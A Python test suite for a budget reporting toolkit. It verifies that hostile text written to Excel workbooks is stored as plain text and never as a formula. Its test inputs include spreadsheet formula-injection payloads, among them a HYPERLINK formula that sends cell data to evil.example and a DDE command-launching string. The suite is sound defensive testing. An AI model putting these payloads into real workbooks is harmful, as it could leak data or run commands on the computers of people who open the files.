"""No input text ever becomes a formula in a workbook the toolkit writes (issue 25, item 2).

Every writer (the report workbook, the begäran, a unit's underlag, samla's prognos.xlsx and
status list, ``budget sie``'s ledger) is run over hostile text; each saved workbook is read
back with openpyxl and with calamine: no cell is a formula (no ``<f>`` in any sheet's XML),
and every text reads back as ``cells.text`` says it is written. A source rule holds that no
module of ``budget`` gives a worksheet a value except through ``budget.report.render.cells``.
"""

from __future__ import annotations

import ast
import dataclasses
import io
import re
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import fastexcel
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from budget.app import samla
from budget.checks.prepare import prepare
from budget.core.collection import UnitLine
from budget.core.money import Sides
from budget.edge import inputs as inputs_mod
from budget.edge import sie
from budget.report.build import build_report
from budget.report.formats import workbook as report_workbook
from budget.report.render import cells, request, underlag, xlsx
from budget.report.render.xlsx import to_bytes
from tests.conftest import ROOT, Folder

STAMP = datetime(2017, 5, 10, 9, 0)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "#DIV/0!",
    "_x0041__x000D_",
    "rad ett\r\nrad två\rrad tre",
    "styr\x00\x01\x08\x0b\x1ftecken",
    "ej tecken \ufffe\uffff slut",
    "x" * 40_000,
    "ä" * 32_767,
    "",
    " ",
    "0412",
    "1e300",
]
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(
        lambda p, s: p + s,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "_x0040_"]),
        st.text(max_size=40),
    ),
    st.text(max_size=60),
)
FORMULA = re.compile(rb"<f[\s>/]")
_UNESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")


def expected(value: str) -> str:
    return cells.text(value)


def _openpyxl_shown(stored: str) -> str:
    """openpyxl does not undo Excel's _xHHHH_ escape; Excel, LibreOffice and calamine do."""
    return _UNESCAPE.sub(lambda m: chr(int(m.group(1), 16)), stored)


def read_back(data: bytes) -> dict[tuple[str, str], tuple[Any, Any]]:
    """Every cell of every sheet: (sheet, ref) -> (as openpyxl shows it, as calamine reads it).

    Fails if any sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not FORMULA.search(z.read(name)), f"{name} holds a formula"
    book = load_workbook(io.BytesIO(data))
    reader = fastexcel.read_excel(data)
    out: dict[tuple[str, str], tuple[Any, Any]] = {}
    for ws in book.worksheets:
        calamine = reader.load_sheet(ws.title, header_row=None).to_polars()
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if cell.value is None:
                    continue
                shown = cell.value
                if isinstance(shown, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}: {cell.data_type}"
                    shown = _openpyxl_shown(shown)
                r, c = cell.row - 1, cell.column - 1
                other = calamine[r, c] if r < calamine.height and c < calamine.width else None
                out[(ws.title, cell.coordinate)] = (shown, other)
    return out


def assert_written(data: bytes, texts: list[str]) -> None:
    """Each text appears, as written, in some cell, read the same by openpyxl and calamine."""
    found = read_back(data)
    for value in texts:
        want = expected(value)
        if not want.strip():
            continue  # blank text is an empty cell
        hits = [k for k, (shown, other) in found.items() if shown == want]
        assert hits, f"{want[:60]!r} not found as text"
        for key in hits:
            assert found[key][1] == want, f"{key}: calamine reads {found[key][1]!r:.60}"


def test_text_rules_of_the_writer() -> None:
    assert cells.text("a\r\nb\rc") == "a\nb\nc"
    assert cells.text("a\x01b\ufffe") == "a\ufffdb\ufffd"
    long = cells.text("x" * 40_000)
    assert len(long) == cells.MAX_TEXT
    assert long.endswith("[avkortad, 40\u00a0000 tecken]")  # never silently shorter
    assert cells.text("ä" * 32_767) == "ä" * 32_767
    assert cells.escaped("_x0041_") == "_x005F_x0041_"
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    with pytest.raises(ValueError, match="not finite"):
        cells.put(ws, 1, 1, float("inf"))


@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(hostile, min_size=1, max_size=4))
def test_put_writes_hostile_text_as_text(texts: list[str]) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for r, value in enumerate(texts, 1):
        cells.put_row(ws, r, [value, 1, value])
    assert_written(to_bytes(wb, STAMP), texts)


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.too_slow])
@given(hostile, hostile)
def test_sie_ledger_workbook(text: str, code: str) -> None:
    row = dict.fromkeys(sie.COLUMNS) | {"År": 2017, "Period": 3, "Konto": code, "Text": text}
    assert_written(xlsx.ledger_workbook("Huvudbok", sie.COLUMNS, [row]), [text, code])


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.too_slow])
@given(hostile, hostile, hostile)
def test_underlag_workbook(name: str, unit: str, area: str) -> None:
    identity = underlag.Identity(name, 2017, 4, "T1", unit, unit, name)
    sides = Sides(-100_000, 0)
    lines = [UnitLine(unit, area, area, None, sides, sides, sides)]
    data = underlag.render(identity, lines, "Tertialrapport 1", STAMP)
    assert_written(data, [name, unit, area])


@settings(deadline=None, max_examples=12, suppress_health_check=[HealthCheck.too_slow])
@given(hostile, hostile, hostile)
def test_samla_prognos_and_status_workbooks(comment: str, measures: str, unit: str) -> None:
    row = ["Förskola", None, 1.0, 2.0, unit, unit, comment, measures, None, None, unit]
    left_out = [[unit, measures, f"{unit[:20]}.xlsx", comment]]  # --delvis: Utelämnade
    assert_written(
        samla._workbook([row], "budget samla|x|2017|4", STAMP, left_out),
        [comment, measures, unit],
    )
    found = samla.Collection({unit: comment, "B1": None}, {unit: measures, "B1": comment})
    found.returned[unit] = Path(f"{unit[:50]}.xlsx".replace("/", "_").replace("\x00", ""))
    assert_written(samla._status(found, STAMP), [comment, measures, unit])


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = Folder(tmp_path_factory.mktemp("writer") / "testnamnd-2017")
    folder.changes(
        [["Omslutningsförändring", "Begärd", "Förskola", 1000, 1000, "text", "fin", "dnr"]]
    )
    return build_report(prepare(inputs_mod.load(folder.path), 4), STAMP)


@settings(deadline=None, max_examples=8, suppress_health_check=[HealthCheck.too_slow])
@given(hostile, hostile, hostile)
def test_report_and_request_workbooks(report: Any, name: str, text: str, dnr: str) -> None:
    change = dataclasses.replace(
        report.changes[0], description=text, financier=name, diarienummer=dnr
    )
    poisoned = dataclasses.replace(
        report, namnd=name, changes=(change,), decision=(text,), diarienummer=dnr
    )
    assert_written(report_workbook.render(poisoned), [text, name, dnr])
    assert_written(request.render(poisoned), [text, dnr])


# The one writer: no other module of budget gives a worksheet a value.
WRITER = ROOT / "budget" / "report" / "render" / "cells.py"
SHEETS = re.compile(r"(^|_)(ws|sheet|worksheet|hidden|info)$")


def _receiver(node: ast.expr) -> str:
    return ast.unparse(node)


def writes_outside_the_writer(source: str) -> list[str]:
    """Calls and assignments that write a cell value without ``cells.put``."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            target = _receiver(node.func.value)
            sheet = bool(SHEETS.search(target.split(".")[-1])) or target == "wb.active"
            if node.func.attr == "append" and sheet:
                found.append(f"{ast.unparse(node)[:60]} (line {node.lineno})")
            if (
                node.func.attr == "cell"
                and sheet
                and (len(node.args) > 2 or any(k.arg == "value" for k in node.keywords))
            ):
                found.append(f"{ast.unparse(node)[:60]} (line {node.lineno})")
        if isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for t in targets:
                if isinstance(t, ast.Attribute) and t.attr in ("value", "_value"):
                    found.append(f"{ast.unparse(t)} = … (line {node.lineno})")
                if isinstance(t, ast.Subscript) and SHEETS.search(
                    _receiver(t.value).split(".")[-1]
                ):
                    found.append(f"{ast.unparse(t)} = … (line {node.lineno})")
    return found


def test_no_module_writes_a_cell_but_the_writer() -> None:
    offenders = {}
    for path in sorted((ROOT / "budget").rglob("*.py")):
        if path == WRITER:
            continue
        hits = writes_outside_the_writer(path.read_text(encoding="utf-8"))
        if hits:
            offenders[str(path.relative_to(ROOT))] = hits
    assert not offenders, f"write cells through budget.report.render.cells: {offenders}"


@pytest.mark.parametrize(
    "source",
    [
        "ws.append(row)",
        "wb.active.append(row)",
        "hidden.cell(row=1, column=1, value=key)",
        "ws.cell(1, 2, text)",
        "cell.value = text",
        "ws['A1'] = text",
        "self.ws.append([1])",
    ],
)
def test_the_rule_sees_each_way_to_write_a_cell(source: str) -> None:
    assert writes_outside_the_writer(source)


def test_the_rule_lets_styles_and_lists_be() -> None:
    assert not writes_outside_the_writer(
        "rows.append(x)\nws.cell(row=1, column=2).font = BOLD\nws.column_dimensions['A'].width = 9"
    )


def test_budget_sie_writes_transaction_texts_as_text(tmp_path: Path) -> None:
    """SIE #TRANS texts are user input too: through the CLI, no formula and no traceback."""
    from click.testing import CliRunner

    from budget.cli import cli
    from tests.corpus.make_corpus import SIE_HEAD

    texts = ["=cmd|' /C calc'!A0", "=HYPERLINK(A1;B1)", "styr\x01tecken"]
    lines = "".join(
        f'#TRANS {k} {{1 "A1" 6 "100"}} {a} 20170215 "{t}"\n'
        for k, a, t in (("5010", "100.00", texts[0]), ("2440", "-100.00", texts[1]))
    )
    body = f'#VER A 1 20170215 "{texts[2]}"\n{{\n{lines}}}\n'
    sie_file = tmp_path / "utfall.se"
    sie_file.write_bytes((SIE_HEAD + body).encode("cp437"))
    result = CliRunner().invoke(
        cli, ["sie", str(sie_file), "--out", str(tmp_path / "ut"), "--verksamhet", "6"]
    )
    assert result.exit_code == 0, result.output
    data = (tmp_path / "ut" / "utfall.xlsx").read_bytes()
    found = read_back(data)
    for text in texts[:2]:
        assert any(shown == text for shown, _ in found.values()), text
